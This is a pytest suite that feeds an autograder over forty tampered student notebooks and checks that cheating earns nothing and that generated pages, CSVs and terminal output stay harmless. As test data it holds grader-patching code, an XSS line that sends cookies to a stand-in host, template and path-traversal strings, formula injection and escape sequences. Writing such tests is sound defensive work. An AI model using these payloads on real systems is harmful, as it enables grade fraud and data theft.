"""What hostile and careless submissions do to a class that `autograder grade` grades: all that was tried against
nbgrader alone, and more. A tampered answer earns nothing, honest ones lose nothing, nobody is stopped."""

from __future__ import annotations

import os
import shutil
import sqlite3
from collections.abc import Callable
from copy import deepcopy
from pathlib import Path

import inputs
import pytest
from small_course import Course, Notebook, answer, gradebook_rows
from submitted_notebooks import cell_of

from autograder.classroom.classroom import open_classroom
from autograder.classroom.commands.progress import summary_lines
from autograder.classroom.grade import Summary, grade
from autograder.classroom.results import class_report, class_results, class_terminal
from autograder.classroom.results.feedback import write_feedback
from autograder.classroom.results.pages import SORTER, write_class_page
from autograder.classroom.submission.notes import NoteKind

pytestmark = inputs.grading

Attempt = Callable[[Notebook, Path], object]

PATCH = """\
check = lambda *_: print("holds")
import builtins, numpy
numpy.testing.assert_allclose = numpy.allclose = lambda *_, **__: True
builtins.__dict__["CheckFailed"] = type("CheckFailed", (BaseException,), {})
"""
CODE: Notebook = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "id": "mine"}
ATTEMPTS: dict[str, tuple[Attempt, list[NoteKind]]] = {}


def attempt(*kinds: NoteKind) -> Callable[[Attempt], Attempt]:
    """Register an attempt to get points for a wrong answer: it takes the untouched notebook and the student's folder,
    and returns what to hand in. `kinds` are the notes to the instructor; there are none for what nobody reads, such as
    tags and outputs, which honest submissions have, too."""

    def add(function: Attempt) -> Attempt:
        ATTEMPTS[function.__name__] = (function, list(kinds))
        return function

    return add


@attempt(NoteKind.ADDED_CELLS)
def a_cell_that_patches_the_checks(notebook: Notebook, folder: Path) -> object:
    notebook["cells"].insert(2, {**CODE, "source": PATCH})
    return notebook


@attempt(NoteKind.ADDED_CELLS)
def a_last_cell_that_leaves(notebook: Notebook, folder: Path) -> object:
    notebook["cells"].append({**CODE, "source": "import os\nos._exit(0)"})
    return notebook


@attempt(NoteKind.CHANGED)
def the_contract_rewritten(notebook: Notebook, folder: Path) -> object:
    cell_of(notebook, "setup")["source"] = PATCH
    return notebook


@attempt(NoteKind.CHANGED)
def the_tests_rewritten(notebook: Notebook, folder: Path) -> object:
    for name in ("test-first", "test-second"):
        cell_of(notebook, name)["source"] = "1000"
    return notebook


@attempt(NoteKind.CHANGED)
def the_tests_deleted(notebook: Notebook, folder: Path) -> object:
    notebook["cells"] = [cell for cell in notebook["cells"] if not cell["metadata"]["nbgrader"]["grade"]]
    return notebook


@attempt()
def the_tests_hold_results(notebook: Notebook, folder: Path) -> object:
    cell_of(notebook, "test-first")["outputs"] = [
        {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "2"}}
    ]
    return notebook


@attempt(NoteKind.CHANGED)
def points_raised(notebook: Notebook, folder: Path) -> object:
    for cell in notebook["cells"]:
        cell["metadata"]["nbgrader"] |= {"points": 1000, "locked": False}
    return notebook


@attempt(NoteKind.CHANGED)
def answers_marked_as_tests(notebook: Notebook, folder: Path) -> object:
    for cell in notebook["cells"]:
        cell["metadata"]["nbgrader"] |= {"grade": True, "solution": True, "points": 5}
    return notebook


@attempt(NoteKind.CHANGED)
def flags_swapped(notebook: Notebook, folder: Path) -> object:
    for cell in notebook["cells"]:
        flags = cell["metadata"]["nbgrader"]
        flags["grade"], flags["solution"] = flags["solution"], flags["grade"]
    return notebook


@attempt(NoteKind.CHANGED)
def ids_made_equal(notebook: Notebook, folder: Path) -> object:
    for cell in notebook["cells"]:
        cell["id"] = cell["metadata"]["nbgrader"]["grade_id"] = "test-first"
    return notebook


@attempt()
def metadata_stripped(notebook: Notebook, folder: Path) -> object:
    for cell in notebook["cells"]:
        cell["metadata"] = {}
    return notebook


@attempt()
def a_wrong_schema_version(notebook: Notebook, folder: Path) -> object:
    for cell in notebook["cells"]:
        cell["metadata"]["nbgrader"]["schema_version"] = 99
    return notebook


@attempt(NoteKind.ADDED_CELLS)
def cells_duplicated(notebook: Notebook, folder: Path) -> object:
    notebook["cells"] += deepcopy(notebook["cells"])
    return notebook


@attempt()
def another_kernel(notebook: Notebook, folder: Path) -> object:
    notebook["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    return notebook


@attempt()
def tags_that_skip_and_remove(notebook: Notebook, folder: Path) -> object:
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = ["skip-execution", "remove-cell", "raises-exception"]
    return notebook


def first_line(line: str) -> Attempt:
    def submit(notebook: Notebook, folder: Path) -> object:
        cell_of(notebook, "answer-first")["source"] = f"{line}\nwrong"
        return notebook

    return submit


for number, line in enumerate(
    (
        "%%cuda first {answers.update(first='right', second='right second')}",
        "%%cuda first $check",
        "%%cuda first; check = print",
        "%%python",
        "%%bash",
        "!cat ../../../gradebook.db",
        "%run -i right.py",
        "%%cuda first\u2028right",
        "%%CUDA first",
    )
):
    note = NoteKind.RECOVERED if line.startswith("%%cuda") else NoteKind.NO_ANSWER  # its text counts, not its line
    ATTEMPTS[f"magic_line_{number}"] = (first_line(line), [note])


def body(text: str) -> Attempt:
    def submit(notebook: Notebook, folder: Path) -> object:
        answer(notebook, "first", text)
        return notebook

    return submit


#: Everything below the first line is text: it is never run, expanded, or taken for one of nbgrader's marks.
for number, text in enumerate(
    (
        "{answers.update(first=chr(114) + 'ight')}",
        "%%python\nanswers['first'] = chr(114) + 'ight'",
        "!touch stolen",
        "### BEGIN HIDDEN TESTS\nr\n### END HIDDEN TESTS",
        "### BEGIN SOLUTION\n### END SOLUTION",
        "\N{ZERO WIDTH SPACE}r\N{ZERO WIDTH SPACE}ight",
        "\x00\x1b]0;title\x07\x1b[2J",
        "<script>fetch('//evil.example/' + document.cookie)</script><img src=x onerror=alert(1)>",
        "</td></table><iframe src=javascript:alert(1)>{{ 7 * 7 }}{% include '/etc/passwd' %}",
        "",
        ">>>",
        "In [1]: ![](//evil.example/x.png)\n[a link](javascript:alert(1))\n$\\href{javascript:alert(1)}{x}$",
    )
):
    reported = {5: [NoteKind.INVISIBLE], 6: [NoteKind.INVISIBLE], 9: [NoteKind.NO_ANSWER]}
    ATTEMPTS[f"text_{number}"] = (body(text), reported.get(number, []))


@attempt(NoteKind.NO_ANSWER)
def an_endless_answer(notebook: Notebook, folder: Path) -> object:
    answer(notebook, "first", "right" * 100_000)
    return notebook


@attempt(NoteKind.UNREADABLE)
def no_json(notebook: Notebook, folder: Path) -> object:
    return b'{"cells": ['


@attempt(NoteKind.UNREADABLE)
def an_empty_file(notebook: Notebook, folder: Path) -> object:
    return b""


@attempt(NoteKind.UNREADABLE)
def nested_without_end(notebook: Notebook, folder: Path) -> object:
    return b"[" * 200_000


@attempt(NoteKind.UNREADABLE)
def a_link_to_the_solution(notebook: Notebook, folder: Path) -> None:
    (folder / "one.ipynb").symlink_to("../../../solutions/words/one.ipynb")


@attempt(NoteKind.UNREADABLE)
def a_pipe(notebook: Notebook, folder: Path) -> None:
    os.mkfifo(folder / "one.ipynb")


@attempt(NoteKind.UNREADABLE)
def a_folder(notebook: Notebook, folder: Path) -> None:
    (folder / "one.ipynb").mkdir()
    (folder / "one.ipynb" / "one.ipynb").write_text("{}")


@attempt(NoteKind.UNREADABLE)
def a_file_without_end(notebook: Notebook, folder: Path) -> None:
    with (folder / "one.ipynb").open("wb") as file:
        file.truncate(1 << 40)


@attempt(NoteKind.MISSING)
def a_name_that_leads_out(notebook: Notebook, folder: Path) -> None:
    (folder / "..\\..\\one.ipynb").write_text("{}")
    (folder / "-rf.ipynb").write_text("{}")


@attempt()
def modules_and_settings_beside_it(notebook: Notebook, folder: Path) -> object:
    for name in ("numpy.py", "sitecustomize.py", "autograder.py", "nbgrader_config.py", "ipython_config.py"):
        (folder / name).write_text("raise SystemExit('something of the student was imported')")
    (folder / "gradebook.db").symlink_to("../../../gradebook.db")
    return notebook


@attempt()
def outputs_without_end(notebook: Notebook, folder: Path) -> object:
    cell_of(notebook, "setup")["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 2_000_000}]
    return notebook


@attempt()
def an_attachment(notebook: Notebook, folder: Path) -> object:
    cell_of(notebook, "title")["attachments"] = {"../../x.svg": {"image/svg+xml": "<svg onload='alert(1)'/>"}}
    return notebook


HONEST = ("ada", "zoe")
#: Names of folders that a careless or hostile collection of submissions could have.
NAMES = ('=HYPERLINK("http:||evil.example")', "<b onmouseover=alert(1)>", "[red]\x1b[2J", "+1-1@SUM(A1)")


@pytest.fixture(scope="module")
def tampered(fresh: Course, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Summary]:
    root = tmp_path_factory.mktemp("tampered")
    shutil.copytree(fresh.root, root, dirs_exist_ok=True)
    course = Course(root)
    right = course.released("words", "one")
    answer(right, "first", "right")
    answer(right, "second", "right second")
    for student in (*HONEST, *NAMES):
        course.submit(student, "words", "one", right)
    for name, (make, _) in ATTEMPTS.items():
        folder = root / "submitted" / name / "words"
        folder.mkdir(parents=True)
        content = make(course.released("words", "one"), folder)
        if content is not None:
            course.submit(name, "words", "one", content)
    return root, grade(open_classroom(root), "words")


def score(root: Path, student: str) -> float:
    rows = gradebook_rows(root)["grade"]
    return sum(float(value) for who, _, notebook, _, value, *_ in rows if (who, notebook) == (student, "one"))


def test_there_are_enough_attempts() -> None:
    assert len(ATTEMPTS) >= 40


@pytest.mark.parametrize("student", ATTEMPTS)
def test_a_tampered_answer_earns_nothing_and_is_told_of(tampered: tuple[Path, Summary], student: str) -> None:
    root, summary = tampered
    assert score(root, student) == 0
    kinds = [note.kind for who, notebook, note in summary.notes if (who, notebook) == (student, "one")]
    assert kinds == ATTEMPTS[student][1]


def test_honest_answers_lose_nothing_and_nobody_is_left_out(tampered: tuple[Path, Summary]) -> None:
    root, summary = tampered
    assert [score(root, student) for student in (*HONEST, *NAMES)] == [4] * 6
    assert set(summary.recorded) == {*HONEST, *NAMES, *ATTEMPTS} and not summary.refused
    assert not list(root.rglob("stolen"))
    # Only the notebooks are taken from a submission.
    assert {p.name for p in (root / "autograded").glob("*/words/*")} == {"one.ipynb", "two.ipynb"}


def test_pages_are_harmless(tampered: tuple[Path, Summary]) -> None:
    root, _ = tampered
    room = open_classroom(root)
    pages = write_feedback(room, "words")
    report = class_report.read_report(room, "words")
    page = root / "class.html"
    write_class_page(page, "words", report)
    for path in (*pages, page):
        text = path.read_text().replace(f"<script>{SORTER}</script>", "")
        for tag in ("<script", "<img", "<iframe", "<b onmouse", "<svg", 'javascript:alert(1)"', "\x1b", "\x00"):
            assert tag not in text, path
        assert "default-src 'none'" in text
        assert "root:" not in text and "right first" not in text  # neither a file of ours nor the solution
    original = (root / "feedback" / "text_7" / "words.html").read_text()
    assert "&lt;script&gt;fetch(&#39;//evil.example/" in original
    assert "{{ 7 * 7 }}" in (root / "feedback" / "text_8" / "words.html").read_text()


def test_a_spreadsheet_finds_no_formula(tampered: tuple[Path, Summary]) -> None:
    root, _ = tampered
    text = class_report.to_csv(class_results.read_class(open_classroom(root), "words"))
    assert not [line for line in text.splitlines() if line.lstrip('"')[:1] in "=+-@\t"]
    assert "\"'=HYPERLINK" in text and "'+1-1@SUM(A1)" in text


def test_a_terminal_is_not_driven(tampered: tuple[Path, Summary]) -> None:
    root, summary = tampered
    report = class_report.read_report(open_classroom(root), "words")
    for line in (*summary_lines(summary), *class_terminal.report_lines(report)):
        assert line.isprintable(), line


def test_the_gradebook_holds_nothing_else(tampered: tuple[Path, Summary]) -> None:
    root, _ = tampered
    with sqlite3.connect(root / "gradebook.db") as gradebook:
        assert gradebook.execute("SELECT max(auto_score), min(auto_score) FROM grade").fetchone() == (2, 0)
        assert gradebook.execute("SELECT count(*) FROM grade WHERE manual_score IS NOT NULL").fetchone() == (0,)
